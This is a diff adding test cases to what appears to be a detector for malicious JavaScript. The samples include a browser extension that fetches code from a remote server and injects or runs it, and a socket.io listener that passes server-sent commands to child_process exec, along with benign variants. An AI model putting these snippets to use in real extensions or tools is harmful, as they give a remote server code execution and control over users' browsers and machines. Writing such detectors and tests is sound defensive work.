@@ -433,3 +433,20 @@ test('data that Node.js is given to read is no program that was brought; what an
   assert.equal(of('cp.spawn("node", [`${dir}/settings.json`, "--check"]);'), 'nothing');
   for (const start of ['cp.spawn("bash", [`${dir}/settings.json`]);', 'cp.spawn(`${dir}/settings.json`);']) assert.equal(of(start), 'high', start);
 });
+
+test('bad: code that an extension of a browser keeps, and that a server answered', () => {
+  const keeps = 'const settings = await (await fetch("https://cfg.example/")).json(); chrome.storage.local.set({ settings });';
+  const runs = 'chrome.storage.local.get("settings", ({ settings }) => { for (const { code } of settings.rules) { const s = document.createElement("script"); s.textContent = code; document.head.append(s) } })';
+  const files = (a: string, b: string) => findingsOf(rule, { 'background.js': a, 'content.js': b })[0]?.severity ?? 'nothing';
+  assert.equal(files(keeps, runs), 'high');
+  assert.equal(files(keeps, 'const { code } = await chrome.storage.local.get("code"); new Function(code)()'), 'high');
+  assert.equal(files('chrome.storage.local.set({ settings: { rules: [{ code: field.value }] } })', runs), 'nothing');
+  assert.equal(files(keeps, 'chrome.storage.local.get("settings", ({ settings }) => { const e = document.createElement("p"); e.textContent = settings.title })'), 'nothing');
+});
+
+test('bad: commands by way of a table of functions that take their arguments apart', () => {
+  const table = 'const { exec } = require("child_process"); const commands = { run: ({ command }) => exec(command), list: () => [] }; ';
+  assert.equal(worst(`${table}const socket = require("socket.io-client").io(u); socket.on("command", ({ name, args }) => commands[name](args))`), 'critical');
+  assert.equal(worst(`${table}commands[process.argv[2]]({ command: "ls" })`), 'nothing');
+  assert.equal(worst('const run = ({ exec, line }) => exec(line); run({ exec: require("child_process").exec, line: await (await fetch(u)).text() })'), 'critical');
+});
